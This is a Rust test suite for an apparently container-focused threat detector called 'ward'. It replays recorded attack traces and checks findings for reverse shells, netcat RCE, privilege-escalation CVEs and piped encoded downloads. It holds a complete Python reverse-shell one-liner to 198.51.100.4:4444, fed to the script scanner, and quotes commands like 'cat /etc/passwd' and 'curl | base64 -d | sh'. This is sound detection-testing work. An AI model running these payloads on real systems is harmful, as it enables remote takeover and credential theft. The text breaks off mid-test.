//! Replays every example trace in `testdata/traces` through the real `ward` binary and
//! compares the findings with the golden files next to them (`<trace>.expected.jsonl`).
//! `WARD_BLESS=1 cargo test -p ward --test replay` rewrites the golden files; review the diff.
//!
//! Independently of the golden files, `EXPECTED` states by hand what each trace must produce.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../..")
        .canonicalize()
        .unwrap()
}

fn ward(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_ward"))
        .args(args)
        .current_dir(repo())
        .env_remove("WARD_DB")
        .output()
        .expect("run ward")
}

fn findings(stdout: &[u8]) -> Vec<serde_json::Value> {
    String::from_utf8_lossy(stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("stdout is JSON Lines"))
        .collect()
}

/// (category, triggering process name, count)
type Want = (&'static str, &'static str, u64);

/// What each trace must produce — written by hand.
const EXPECTED: &[(&str, &[Want])] = &[
    // A health check and a download over bash's /dev/tcp, a server's `sh -c` on pipes: no
    // remote command execution; the node server's `sh -c ls` is node's child_process.exec()
    // of a plain command, which UNEXPECTED_CHILD_SHELL excepts (rules/shells.toml).
    ("benign-dev-tcp-transfers", &[]),
    ("benign-sessions", &[]),
    (
        "compiler",
        &[
            (
                "Defense Evasion: Launch Code Compiler Tool In Container",
                "gcc",
                5,
            ),
            (
                "Defense Evasion: Launch Code Compiler Tool In Container",
                "tcc",
                1,
            ),
            (
                "Defense Evasion: Launch Code Compiler Tool In Container",
                "go",
                1,
            ),
        ],
    ),
    (
        "drift",
        &[
            ("Execution: Added Binary Executed", "ash", 1),
            (
                "Execution: Added Binary Executed",
                "memfd:payload (deleted)",
                1,
            ),
            (
                "Execution: Fileless Execution in /memfd:",
                "memfd:payload (deleted)",
                1,
            ),
        ],
    ),
    (
        "malformed-lines",
        &[
            (
                "Execution: Possible Remote Command Execution Detected",
                "sh",
                2,
            ),
            ("Reverse Shell", "sh", 1),
        ],
    ),
    (
        "malicious-binary",
        &[
            (
                "Execution: Built in Malicious Binary Executed",
                "ward-test-payload",
                2,
            ),
            ("Execution: Added Malicious Binary Executed", "kworker", 1),
            ("Execution: Modified Malicious Binary Executed", "top", 1),
            ("Execution: Added Malicious Binary Executed", "sh", 1),
        ],
    ),
    // Benign scripts scored by the shipped model: nothing to report.
    ("python-scripts", &[]),
    (
        "rce-bash-dev-tcp",
        &[
            ("Reverse Shell", "bash", 1),
            (
                "Execution: Possible Remote Command Execution Detected",
                "id",
                5,
            ),
        ],
    ),
    (
        "rce-busybox-nc-e",
        &[
            (
                "Execution: Netcat Remote Code Execution in Container",
                "nc",
                1,
            ),
            (
                "Execution: Possible Remote Command Execution Detected",
                "sh",
                2,
            ),
            ("Reverse Shell", "sh", 1),
        ],
    ),
    (
        "rce-dev-tcp-into-shell",
        &[
            (
                "Execution: Possible Remote Command Execution Detected",
                "sh",
                4,
            ),
            ("Reverse Shell", "sh", 2),
        ],
    ),
    (
        "rce-mkfifo-nc",
        &[
            (
                "Execution: Netcat Remote Code Execution in Container",
                "nc",
                1,
            ),
            ("Reverse Shell", "sh", 1),
            (
                "Execution: Possible Remote Command Execution Detected",
                "id",
                2,
            ),
        ],
    ),
    (
        "rce-mkfifo-nc-redirect",
        &[
            (
                "Execution: Netcat Remote Code Execution in Container",
                "nc",
                1,
            ),
            ("Reverse Shell", "sh", 1),
            (
                "Execution: Possible Remote Command Execution Detected",
                "id",
                2,
            ),
        ],
    ),
    (
        "rce-nc-e",
        &[
            (
                "Execution: Netcat Remote Code Execution in Container",
                "nc",
                1,
            ),
            (
                "Execution: Possible Remote Command Execution Detected",
                "sh",
                3,
            ),
            ("Reverse Shell", "sh", 1),
        ],
    ),
    (
        "rce-perl",
        &[
            (
                "Execution: Possible Remote Command Execution Detected",
                "sh",
                3,
            ),
            ("Reverse Shell", "sh", 2),
        ],
    ),
    (
        "rce-python-dup2",
        &[
            ("Execution: Malicious Python executed", "python3", 1),
            (
                "Execution: Possible Remote Command Execution Detected",
                "sh",
                2,
            ),
            ("Reverse Shell", "sh", 1),
        ],
    ),
    (
        "rce-python-pty",
        &[
            ("Execution: Malicious Python executed", "python3", 1),
            (
                "Execution: Possible Remote Command Execution Detected",
                "bash",
                3,
            ),
            ("Reverse Shell", "bash", 1),
        ],
    ),
    (
        "rce-relay-go",
        &[
            (
                "Execution: Possible Remote Command Execution Detected",
                "sh",
                3,
            ),
            ("Reverse Shell", "sh", 1),
        ],
    ),
    (
        "rce-relay-java",
        &[
            ("Unexpected Child Shell", "sh", 1),
            ("Reverse Shell", "sh", 1),
            (
                "Execution: Possible Remote Command Execution Detected",
                "id",
                2,
            ),
        ],
    ),
    (
        "rce-relay-node",
        &[
            ("Unexpected Child Shell", "sh", 1),
            ("Reverse Shell", "sh", 1),
            (
                "Execution: Possible Remote Command Execution Detected",
                "id",
                2,
            ),
        ],
    ),
    (
        "rce-relay-perl",
        &[
            (
                "Execution: Possible Remote Command Execution Detected",
                "sh",
                3,
            ),
            ("Reverse Shell", "sh", 1),
        ],
    ),
    (
        "rce-relay-python",
        &[
            (
                "Execution: Possible Remote Command Execution Detected",
                "sh",
                3,
            ),
            ("Reverse Shell", "sh", 1),
        ],
    ),
    (
        "rce-relay-ruby",
        &[
            (
                "Execution: Possible Remote Command Execution Detected",
                "sh",
                3,
            ),
            ("Reverse Shell", "sh", 1),
        ],
    ),
    (
        "rce-socat",
        &[
            ("Execution: Socat Reverse Shell Detected", "bash", 1),
            ("Reverse Shell", "bash", 1),
            (
                "Execution: Possible Remote Command Execution Detected",
                "id",
                2,
            ),
        ],
    ),
    (
        "rce-udp",
        &[
            (
                "Execution: Possible Remote Command Execution Detected",
                "sh",
                3,
            ),
            ("Reverse Shell", "sh", 1),
        ],
    ),
    // Detection rules (rules/*.toml): eight rule categories; the look-alikes stay quiet.
    (
        "rules",
        &[
            ("Unexpected Child Shell", "sh", 2),
            (
                "Defense Evasion: Base64 Encoded Shell Script Executed",
                "bash",
                1,
            ),
            (
                "Impact: Suspicious crypto mining activity using the Stratum Protocol",
                "xmrig",
                1,
            ),
            (
                "Execution: Fileless Execution in /memfd:",
                "memfd:kthreadd (deleted)",
                1,
            ),
            (
                "Privilege Escalation: Fileless Execution in /dev/shm",
                ".x",
                1,
            ),
            (
                "Privilege Escalation: Abuse of Sudo For Privilege Escalation (CVE-2019-14287)",
                "sudo",
                1,
            ),
            (
                "Privilege Escalation: Sudo Potential Privilege Escalation (CVE-2021-3156)",
                "sudoedit",
                1,
            ),
            (
                "Execution: Suspicious OpenSSL Shared Object Loaded",
                "openssl",
                1,
            ),
        ],
    ),
    // The environment at exec (rules-env.toml: #31 on, report_environment_variables on): a
    // proxy variable, LD_PRELOAD from /tmp (the environment marked cut), PwnKit's envp, the
    // GLIBC_TUNABLES overflow; five look-alikes quiet (a proxy turned off, jemalloc, ordinary
    // tuning, GCONV_PATH for iconv, a proxy on the host).
    (
        "rules-env",
        &[
            (
                "Execution: Program Run with Disallowed HTTP Proxy Env",
                "curl",
                1,
            ),
            (
                "Defense Evasion: Library Preloaded from a Temporary Directory",
                "id",
                1,
            ),
            (
                "Privilege Escalation: Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
                "pkexec",
                1,
            ),
            (
                "Privilege Escalation: GLIBC_TUNABLES Overflow Attempt (CVE-2023-4911)",
                "su",
                1,
            ),
        ],
    ),
    // Pipe neighbours paired by the engine's pipe index: `curl | base64 -d | sh` in both exec
    // orders fires each piped rule on whichever member of a pair exec'd second; curl | jq,
    // cat | base64 -d | tee, curl | base64, base64 -d | python3 -c and nc | while read stay
    // quiet.
    (
        "rules-piped",
        &[
            ("Command and Control: Piped Encoded Download", "base64", 1),
            (
                "Command and Control: Piped Encoded Code Execution Detected",
                "sh",
                1,
            ),
            (
                "Command and Control: Piped Encoded Code Execution Detected",
                "base64",
                1,
            ),
            ("Command and Control: Piped Encoded Download", "wget", 1),
        ],
    ),
    // on_missing_metadata = "wait" (rules-wait.toml turns INGRESS_NIGHTMARE on): decided by a
    // later exec's metadata (the controller image fires, plain nginx stays quiet), or alerted
    // when none came within metadata_wait.
    (
        "rules-urls",
        &[
            ("Malicious URL Observed", "wget", 2),
            ("Malicious URL Observed", "sh", 1),
            ("Malicious URL Observed", "ssh", 1),
        ],
    ),
    (
        "rules-wait",
        &[
            (
                "Execution: Ingress Nightmare Vulnerability Execution (Preview)",
                "nginx",
                1,
            ),
            (
                "Execution: Ingress Nightmare Vulnerability Execution (Preview)",
                "nginx",
                1,
            ),
        ],
    ),
];

fn replay_final(trace: &str) -> Output {
    let dir = repo().join("testdata/traces");
    let trace_path = dir.join(format!("{trace}.jsonl"));
    let config = dir.join(format!("{trace}.toml"));
    let mut args: Vec<String> = vec![
        "replay".into(),
        "--final".into(),
        "--intel".into(),
        "testdata/intel/example-feed.txt".into(),
        // Every trace with the URL feed on: only rules-urls lists a URL of it.
        "--url-feed".into(),
        "testdata/intel/example-urls.txt".into(),
    ];
    if config.exists() {
        args.push("--config".into());
        args.push(config.display().to_string());
    }
    args.push(trace_path.display().to_string());
    let refs: Vec<&str> = args.iter().map(String::as_str).collect();
    ward(&refs)
}

#[test]
fn env_variables_in_replayed_findings_follow_the_switch() {
    // With rules-env.toml (the switch on): the environment, split at the first '=', and the
    // truncation mark the trace carried.
    let out = replay_final("rules-env");
    assert!(out.status.success());
    let on = findings(&out.stdout);
    let preload = on
        .iter()
        .find(|f| f["sourceProperties"]["Rule_Id"] == "LD_PRELOAD_FROM_TEMPORARY_DIRECTORY")
        .unwrap();
    assert_eq!(
        preload["processes"][0]["envVariables"][0],
        serde_json::json!({"name": "LD_PRELOAD", "val": "/tmp/.x.so"})
    );
    assert_eq!(preload["processes"][0]["envVariablesTruncated"], true);
    // The same trace with the defaults (no config: the switch off, #31 off): the rules on the
    // environment still fire, no finding carries the environment.
    let out = ward(&["replay", "--final", "testdata/traces/rules-env.jsonl"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let off = findings(&out.stdout);
    assert_eq!(off.len(), 3, "{off:#?}");
    for f in &off {
        assert!(f["processes"][0].get("envVariables").is_none(), "{f:#}");
        assert!(
            f["processes"][0].get("envVariablesTruncated").is_none(),
            "{f:#}"
        );
    }
}

#[test]
fn every_example_trace_has_an_expectation() {
    let mut on_disk: Vec<String> = std::fs::read_dir(repo().join("testdata/traces"))
        .unwrap()
        .filter_map(|e| {
            let name = e.unwrap().file_name().into_string().unwrap();
            name.strip_suffix(".jsonl")
                .filter(|n| !n.ends_with(".expected"))
                .map(str::to_string)
        })
        .collect();
    on_disk.sort();
    let listed: Vec<&str> = EXPECTED.iter().map(|(n, _)| *n).collect();
    assert_eq!(on_disk, listed);
}

#[test]
fn example_traces_give_the_expected_findings() {
    let bless = std::env::var_os("WARD_BLESS").is_some();
    for (trace, expected) in EXPECTED {
        let out = replay_final(trace);
        assert!(
            out.status.success(),
            "{trace}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let got = findings(&out.stdout);
        let summary: Vec<(String, String, u64)> = got
            .iter()
            .map(|f| {
                (
                    f["category"].as_str().unwrap().to_string(),
                    f["processes"][0]["name"].as_str().unwrap().to_string(),
                    f["sourceProperties"]["Count"].as_u64().unwrap(),
                )
            })
            .collect();
        let want: Vec<(String, String, u64)> = expected
            .iter()
            .map(|(c, p, n)| (c.to_string(), p.to_string(), *n))
            .collect();
        assert_eq!(summary, want, "{trace}");

        let golden = repo().join(format!("testdata/traces/{trace}.expected.jsonl"));
        if bless {
            std::fs::write(&golden, &out.stdout).unwrap();
        } else {
            let text = std::fs::read_to_string(&golden)
                .unwrap_or_else(|e| panic!("{}: {e} (run with WARD_BLESS=1)", golden.display()));
            let want = findings(text.as_bytes());
            assert_eq!(
                got,
                want,
                "{trace}: findings differ from {}",
                golden.display()
            );
        }
    }
}

#[test]
fn reverse_shell_findings_carry_what_a_responder_needs() {
    let out = replay_final("rce-bash-dev-tcp");
    let got = findings(&out.stdout);
    let rs = &got[0];
    assert_eq!(rs["severity"], "CRITICAL");
    assert_eq!(rs["findingClass"], "THREAT");
    assert_eq!(rs["state"], "ACTIVE");
    assert_eq!(rs["mitreAttack"]["primaryTechniques"][0], "UNIX_SHELL");
    assert_eq!(rs["connections"][0]["destinationIp"], "203.0.113.9");
    assert_eq!(rs["connections"][0]["destinationPort"], 4444);
    assert_eq!(rs["containers"][0]["name"], "web");
    assert_eq!(
        rs["containers"][0]["uri"],
        "registry.example/shop/web:1.4.2"
    );
    assert_eq!(rs["kubernetes"]["pods"][0]["ns"], "shop");
    assert_eq!(rs["kubernetes"]["pods"][0]["name"], "web-7d9c5b-x2k4q");
    assert_eq!(rs["kubernetes"]["nodes"][0]["name"], "node-a");
    for key in [
        "Pod_Namespace",
        "Pod_Name",
        "Container_Name",
        "Container_Image_Uri",
        "VM_Instance_Name",
    ] {
        assert!(rs["sourceProperties"][key].is_string(), "{key}");
    }
    // The parent chain: bash <- bash -c <- the CGI handler <- nginx.
    let chain: Vec<&str> = rs["processes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap())
        .collect();
    assert_eq!(chain, ["bash", "status.cgi", "nginx"]);
    assert!(rs["nextSteps"].as_str().unwrap().contains("isolate"));
    assert!(
        rs.get("externalUri").is_none(),
        "no hash, no link; no placeholders"
    );
    let rce = &got[1];
    let cmds: Vec<&str> = rce["sourceProperties"]["Commands"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c.as_str().unwrap())
        .collect();
    assert_eq!(cmds, ["id", "whoami", "uname -a", "cat /etc/passwd"]);
    // The first command (`id`) ran 10 ms into the trace.
    assert_eq!(rce["createTime"], "2026-11-21T10:00:00.010000000Z");
    assert_eq!(
        rce["eventTime"], "2026-11-21T10:00:00.022000000Z",
        "last `id`"
    );
}

#[test]
fn stream_mode_prints_each_finding_once_as_found() {
    let out = ward(&["replay", "testdata/traces/rce-bash-dev-tcp.jsonl"]);
    assert!(out.status.success());
    let got = findings(&out.stdout);
    assert_eq!(got.len(), 2);
    assert_eq!(
        got[1]["sourceProperties"]["Count"], 1,
        "streamed when first found"
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("23 events (8 exec)") && err.contains("2 findings, 4 repeats folded in"),
        "{err}"
    );
}

#[test]
fn malformed_lines_are_named_counted_and_skipped() {
    let out = replay_final("malformed-lines");
    assert!(out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    for needle in [
        "line 6: time: invalid type",
        "line 7: .: not valid JSON",
        "line 8: type: unknown event type \"teleport\"",
        "line 9: target.socket.localIp: invalid IP address syntax",
        "line 12: binary.sha256: expected 64 hex characters",
        "5 malformed lines skipped",
    ] {
        assert!(err.contains(needle), "missing {needle:?} in:\n{err}");
    }
}

#[test]
fn replay_reads_stdin_and_rejects_non_traces() {
    let mut child = Command::new(env!("CARGO_BIN_EXE_ward"))
        .args(["replay", "-"])
        .current_dir(repo())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let text = std::fs::read(repo().join("testdata/traces/rce-nc-e.jsonl")).unwrap();
    use std::io::Write;
    child.stdin.take().unwrap().write_all(&text).unwrap();
    let out = child.wait_with_output().unwrap();
    // Reverse Shell, Remote Command Execution, and the netcat rule.
    assert_eq!(findings(&out.stdout).len(), 3);

    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("bad.jsonl");
    std::fs::write(
        &bad,
        "{\"type\":\"fork\",\"time\":1,\"pid\":2,\"ppid\":1}\n",
    )
    .unwrap();
    let out = ward(&["replay", bad.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("bad.jsonl") && err.contains("line 1: not a ward trace"),
        "{err}"
    );
}

#[test]
fn bad_intel_and_config_exit_non_zero_naming_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("feed.csv");
    std::fs::write(&feed, "first_seen,md5,name\n2024-01-01,abc,x\n").unwrap();
    let out = ward(&[
        "replay",
        "--intel",
        feed.to_str().unwrap(),
        "testdata/traces/rce-nc-e.jsonl",
    ]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("feed.csv") && err.contains("line 1"), "{err}");

    let missing = dir.path().join("missing.txt");
    let out = ward(&[
        "replay",
        "--intel",
        missing.to_str().unwrap(),
        "testdata/traces/rce-nc-e.jsonl",
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("missing.txt"));

    let cfg = dir.path().join("ward.toml");
    std::fs::write(
        &cfg,
        "[engine]\nmax_processes = 100\n[detectors.compiler]\nenable = true\n",
    )
    .unwrap();
    let out = ward(&[
        "replay",
        "--config",
        cfg.to_str().unwrap(),
        "testdata/traces/rce-nc-e.jsonl",
    ]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("ward.toml:4:1") && err.contains("enable"),
        "{err}"
    );
    let out = ward(&["config", "check", cfg.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    // A value the docs rule out (issue 16, item 9): named with its key and line.
    std::fs::write(
        &cfg,
        "[agent]\nhash_workers = 2\nring_buffer_bytes = 3000000\n",
    )
    .unwrap();
    let out = ward(&["config", "check", cfg.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("ward.toml:3:1: agent.ring_buffer_bytes = 3000000 is out of range"),
        "{err}"
    );
    let out = ward(&["config", "default"]);
    assert!(String::from_utf8_lossy(&out.stdout).contains("[detectors.remote_command_execution]"));
}

#[test]
fn intel_check_reports_formats_counts_and_problems() {
    let dir = tempfile::tempdir().unwrap();
    let plain = dir.path().join("plain.txt");
    let h = "a".repeat(64);
    std::fs::write(
        &plain,
        format!("# comment\n{h}\n{h}\nnot-a-hash\n{}\n", "b".repeat(64)),
    )
    .unwrap();
    let out = ward(&[
        "intel",
        "check",
        plain.to_str().unwrap(),
        "testdata/intel/example-feed.txt",
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("plain.txt"), "{text}");
    assert!(
        text.contains("line 4"),
        "the malformed line is named: {text}"
    );
    assert!(text.to_lowercase().contains("duplicate"), "{text}");
    assert!(text.contains("example-feed.txt"), "{text}");
}

/// URL feeds: `intel check --url-feed` reports kinds, counts and bad lines by number; an
/// unusable one (empty, all garbage, a CSV without a url column) exits 1 naming why.
#[test]
fn intel_check_covers_url_feeds() {
    let out = ward(&[
        "intel",
        "check",
        "--url-feed",
        "testdata/intel/example-urls.txt",
        "--url-feed",
        "testdata/intel/example-urlhaus.csv",
    ]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    assert!(
        text.contains("example-urls.txt: URL feed, format plain (detected), 7 lines, 1 URLs, 2 hosts, 1 domains loaded, 0 duplicates, 0 malformed"),
        "{text}"
    );
    assert!(
        text.contains("example-urlhaus.csv: URL feed, format csv (detected), 9 lines, 2 URLs, 0 hosts, 0 domains loaded, 0 duplicates, 1 malformed"),
        "{text}"
    );
    assert!(
        text.contains("  line 9: \"no scheme/x\" has a path but no scheme"),
        "{text}"
    );
    // Hash feeds and URL feeds in one call.
    let out = ward(&[
        "intel",
        "check",
        "testdata/intel/example-feed.txt",
        "--url-feed",
        "testdata/intel/example-urls.txt",
    ]);
    assert!(out.status.success());
    let dir = tempfile::tempdir().unwrap();
    let cases = [
        (
            "empty.txt",
            "# nothing\n",
            "no URL, host or domain in 1 line(s)",
        ),
        (
            "garbage.txt",
            "a/b\nc/d\n",
            "no valid URL, host or domain, 2 malformed line(s); first at line 1",
        ),
        (
            "nourl.csv",
            "id,link\n1,x\n",
            "CSV header at line 1 has no url column",
        ),
    ];
    for (name, body, why) in cases {
        let path = dir.path().join(name);
        std::fs::write(&path, body).unwrap();
        let out = ward(&["intel", "check", "--url-feed", path.to_str().unwrap()]);
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert_eq!(out.status.code(), Some(1), "{name}: {stdout}");
        let error = stdout
            .lines()
            .find(|l| l.starts_with(&format!("{}: ERROR: ", path.display())))
            .unwrap_or_else(|| panic!("{name}: no ERROR line: {stdout}"));
        assert!(error.contains(why), "{name}: {error}");
    }
}

/// Without a URL feed the URL rule is off, and `ward replay` says so once; with one (plain or
/// the URLhaus CSV) it fires.
#[test]
fn the_url_rule_is_on_only_with_a_url_feed() {
    let trace = "testdata/traces/rules-urls.jsonl";
    let out = ward(&["replay", "--final", trace]);
    assert!(out.status.success());
    assert!(findings(&out.stdout).is_empty());
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        err.matches("rules that need a URL feed are off").count(),
        1,
        "{err}"
    );
    assert!(err.contains("MALICIOUS_URL_OBSERVED"), "{err}");
    let out = ward(&[
        "replay",
        "--final",
        "--url-feed",
        "testdata/intel/example-urlhaus.csv",
        trace,
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(!err.contains("rules that need a URL feed are off"), "{err}");
    // The CSV lists the wget URL and the dropper's URL (which the trace writes with another
    // case and a trailing dot); not the c2 domain the ssh names.
    let got: Vec<String> = findings(&out.stdout)
        .iter()
        .map(|f| f["processes"][0]["name"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(got, ["wget", "sh"], "{err}");
    // A feed that does not load stops the replay, naming the file.
    let out = ward(&["replay", "--url-feed", "/nonexistent/urls.txt", trace]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("/nonexistent/urls.txt"));
}

/// Issue 16, item 11: an empty feed and an all-garbage feed are both unusable; `intel check`
/// exits 1 for each, naming why on an ERROR line.
#[test]
fn intel_check_fails_alike_for_empty_and_garbage_feeds() {
    let dir = tempfile::tempdir().unwrap();
    let cases = [
        ("empty.txt", String::new(), "no SHA-256 hash in 0 line(s)"),
        (
            "comments.txt",
            format!("# feed\n\n{}\n", "c".repeat(40)),
            "no SHA-256 hash in 3 line(s) (1 SHA-1 and 0 MD5 skipped",
        ),
        (
            "garbage.txt",
            "<html>\n<body>not a feed</body>\n".to_string(),
            "no valid SHA-256 hash, 2 malformed line(s); first at line 1",
        ),
    ];
    for (name, text, why) in cases {
        let path = dir.path().join(name);
        std::fs::write(&path, text).unwrap();
        let out = ward(&["intel", "check", path.to_str().unwrap()]);
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert_eq!(out.status.code(), Some(1), "{name}: {stdout}");
        let error = stdout
            .lines()
            .find(|l| l.starts_with(&format!("{}: ERROR: ", path.display())))
            .unwrap_or_else(|| panic!("{name}: no ERROR line: {stdout}"));
        assert!(error.contains(why), "{name}: {error}");
    }
}

#[test]
fn findings_are_stored_listed_filtered_and_shown() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("ward.db");
    let db_s = db.to_str().unwrap();
    for trace in ["rce-bash-dev-tcp", "compiler", "malicious-binary"] {
        let path = format!("testdata/traces/{trace}.jsonl");
        let out = ward(&[
            "replay",
            "-q",
            "--intel",
            "testdata/intel/example-feed.txt",
            "--db",
            db_s,
            &path,
        ]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    // Replaying the same trace again updates, never duplicates (deterministic names).
    let out = ward(&[
        "replay",
        "-q",
        "--db",
        db_s,
        "testdata/traces/compiler.jsonl",
    ]);
    assert!(out.status.success());

    let list = |filter: &str| -> Vec<serde_json::Value> {
        let out = ward(&[
            "findings", "list", "--db", db_s, "--format", "json", "--filter", filter,
        ]);
        assert!(
            out.status.success(),
            "{filter}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        findings(&out.stdout)
    };
    assert_eq!(list("").len(), 2 + 3 + 4);
    assert_eq!(list("severity=\"CRITICAL\"").len(), 1 + 4);
    assert_eq!(list("category=\"Reverse Shell\"").len(), 1);
    assert_eq!(
        list("category:\"compiler\" AND containerName=\"worker\"").len(),
        2
    );
    assert_eq!(
        list("namespace=\"shop\" AND podName:\"web-7d9c\"").len(),
        4,
        "bash RCE+RS, gcc, built-in payload"
    );
    // Only the bash session's RCE (last seen at +22 ms) and `go build` (+20 ms) are that late.
    assert_eq!(list("eventTime>=\"2026-11-21T10:00:00.020Z\"").len(), 2);

    let out = ward(&["findings", "list", "--db", db_s]);
    let table = String::from_utf8_lossy(&out.stdout);
    assert!(table.starts_with("EVENT TIME (UTC)"), "{table}");
    assert!(table.contains("shop/web-7d9c5b-x2k4q/web"), "{table}");

    let all = list("category=\"Reverse Shell\"");
    let id = all[0]["name"]
        .as_str()
        .unwrap()
        .rsplit('/')
        .next()
        .unwrap()
        .to_string();
    let out = ward(&["findings", "show", "--db", db_s, &id]);
    assert!(out.status.success());
    let shown: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(shown, all[0]);

    let out = ward(&[
        "findings",
        "list",
        "--db",
        db_s,
        "--filter",
        "severity=\"BAD\"",
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("column"));
    let out = ward(&["findings", "show", "--db", db_s, "nope"]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn malicious_python_findings_carry_the_script_and_the_model_verdict() {
    let out = replay_final("rce-python-dup2");
    let got = findings(&out.stdout);
    let f = &got[0];
    assert_eq!(f["category"], "Execution: Malicious Python executed");
    assert_eq!(f["severity"], "CRITICAL");
    let script = &f["processes"][0]["script"];
    assert!(script.get("path").is_none(), "a -c literal has no path");
    assert!(script["contents"]
        .as_str()
        .unwrap()
        .contains("os.dup2(s.fileno(),0)"));
    assert_eq!(script["size"], script["contents"].as_str().unwrap().len());
    let score = f["sourceProperties"]["Model_Score"].as_f64().unwrap();
    let threshold = f["sourceProperties"]["Model_Threshold"].as_f64().unwrap();
    assert!(
        score >= threshold && threshold >= 0.5,
        "{score} {threshold}"
    );
    assert!(f["sourceProperties"]["Model_Id"]
        .as_str()
        .unwrap()
        .starts_with("ward-python-v1"));
    assert!(!f["sourceProperties"]["Model_Top_Reasons"]
        .as_array()
        .unwrap()
        .is_empty());
    assert_eq!(f["mitreAttack"]["primaryTechniques"][0], "PYTHON");

    // The detector can be switched off in configuration.
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("off.toml");
    std::fs::write(&cfg, "[detectors.malicious_python]\nenabled = false\n").unwrap();
    let out = ward(&[
        "replay",
        "--final",
        "--config",
        cfg.to_str().unwrap(),
        "testdata/traces/rce-python-dup2.jsonl",
    ]);
    assert!(findings(&out.stdout)
        .iter()
        .all(|f| f["category"] != "Execution: Malicious Python executed"));
}

#[test]
fn scan_script_scores_files_and_says_what_is_not_python() {
    let dir = tempfile::tempdir().unwrap();
    let benign = dir.path().join("health.py");
    std::fs::write(
        &benign,
        "import json, sys\nprint(json.dumps({'ok': True}))\nsys.exit(0)\n",
    )
    .unwrap();
    let out = ward(&[
        "scan-script",
        "--format",
        "json",
        benign.to_str().unwrap(),
        "/bin/true",
    ]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let rows = findings(&out.stdout);
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0]["malicious"], false);
    assert_eq!(rows[0]["sha256"].as_str().unwrap().len(), 64);
    assert!(
        rows[1]["not_python"].as_str().unwrap().contains("ELF"),
        "{}",
        rows[1]
    );

    // A reverse shell piped on stdin.
    let mut child = Command::new(env!("CARGO_BIN_EXE_ward"))
        .args(["scan-script", "--format", "json", "-"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('198.51.100.4',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nsubprocess.call(['/bin/sh','-i'])\n")
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(1), "malicious input exits 1");
    let row = &findings(&out.stdout)[0];
    assert_eq!(row["malicious"], true);
    assert_eq!(row["path"], "-");
}

/// A recording's header counts the processes that were already running when the agent started
/// (`"seeds": N`); a replay seeds those N exec records without running detectors on them, as
/// the live agent did. Every exec of the compiler trace declared a seed: nothing is reported.
#[test]
fn seeded_execs_in_the_header_are_not_detected_on() {
    let text = std::fs::read_to_string(repo().join("testdata/traces/compiler.jsonl")).unwrap();
    let execs = text
        .lines()
        .filter(|l| l.starts_with(r#"{"type":"exec""#))
        .count();
    assert!(execs > 0);
    let seeded = text.replacen(
        r#""source":"testdata/traces/gen.py"}"#,
        &format!(r#""source":"testdata/traces/gen.py","seeds":{execs}}}"#),
        1,
    );
    assert_ne!(seeded, text, "the header was rewritten");
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("seeded.jsonl");
    std::fs::write(&path, seeded).unwrap();
    let plain = ward(&["replay", "testdata/traces/compiler.jsonl"]);
    assert!(plain.status.success());
    assert!(
        !findings(&plain.stdout).is_empty(),
        "the trace has findings"
    );
    let out = ward(&["replay", path.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
